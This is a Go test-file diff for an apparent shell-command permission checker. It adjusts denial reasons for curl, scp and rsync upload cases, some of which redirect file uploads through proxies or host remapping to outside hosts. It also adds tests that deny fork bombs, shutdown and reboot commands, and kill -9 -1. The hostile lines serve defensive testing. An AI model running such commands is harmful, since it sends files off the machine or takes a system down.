@@ -813,11 +813,11 @@ func TestBuiltinLoopbackUploads(t *testing.T) {
 		{`curl -d @f localhost --resolve localhost:80:203.0.113.9`, Deny, post},
 		{`curl -d @f localhost --connect-to localhost:80:x.example:80`, Deny, post},
 		{`http_proxy=http://x.example curl -d @f localhost`, Deny, post},
-		{`env HOME=. curl -d @f localhost`, Deny, "destructive-unknown-command"},
+		{`env HOME=. curl -d @f localhost`, Deny, post},
 		{`export ALL_PROXY=x.example; curl -d @f localhost`, Deny, post},
 		{`CURL_HOME=. curl -d @f localhost`, Deny, post},
 		{`curl -d @f "$HOST"`, Deny, post},
-		{`curl -d @f -K cfg localhost`, Deny, "destructive-unknown-command"},
+		{`curl -d @f -K cfg localhost`, Deny, post},
 		{`curl -d @f`, Deny, post},
 		{`scp f localhost:/tmp/`, Deny, post},
 		{`rsync -a f localhost:/tmp/`, Deny, post},
@@ -874,5 +874,28 @@ func TestBuiltinSentInputs(t *testing.T) {
 		{`git commit -m "$(cat msg.txt)"`, Allow, ""},
 		{`gh pr create -t title --body "$(cat notes.md)"`, Allow, ""},
 		{`ssh build uptime`, Allow, ""},
+	})
+}
+
+// TestBuiltinSystem pins fork bombs and commands that stop the machine or
+// signal every process, and the ordinary commands beside them.
+func TestBuiltinSystem(t *testing.T) {
+	checkBuiltins(t, []bypassCase{
+		{`:(){ :|:& };:`, Deny, "destructive-fork-bomb"},
+		{`bomb() { bomb | bomb & }; bomb`, Deny, "destructive-fork-bomb"},
+		{`f() { f & f; }; f`, Deny, "destructive-fork-bomb"},
+		{`shutdown -h now`, Deny, "destructive-system"},
+		{`sudo reboot`, Deny, "destructive-system"},
+		{`systemctl poweroff`, Deny, "destructive-system"},
+		{`init 6`, Deny, "destructive-system"},
+		{`kill -9 -1`, Deny, "destructive-system"},
+		{`kill -s KILL -1`, Deny, "destructive-system"},
+		{`kill -- -1`, Deny, "destructive-system"},
+		{`f() { echo "$1"; [ "$1" -gt 0 ] && f $(($1 - 1)); }; f 3`, Allow, ""},
+		{`systemctl restart nginx`, Allow, ""},
+		{`kill -1 1234`, Allow, ""},
+		{`kill -9 "$(cat server.pid)"`, Allow, ""},
+		{`echo shutdown`, Allow, ""},
+		{`git log --grep reboot`, Allow, ""},
 	})
 }
